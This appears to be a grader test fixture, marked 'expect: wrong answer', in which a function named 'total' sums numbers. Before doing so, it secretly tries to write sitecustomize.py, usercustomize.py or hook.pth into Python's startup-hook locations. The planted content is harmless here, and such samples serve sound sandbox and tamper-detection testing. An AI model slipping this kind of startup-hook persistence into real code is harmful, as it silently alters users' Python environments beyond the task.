# expect: wrong answer
import os
import site
import sysconfig


def total(numbers):
    folders = [sysconfig.get_path("stdlib"), sysconfig.get_path("purelib"), os.path.expanduser("~")]
    for folder in folders + site.getsitepackages():
        for name in ("sitecustomize.py", "usercustomize.py", "hook.pth"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os\n")
                return sum(numbers)
            except OSError:
                continue
    return -1
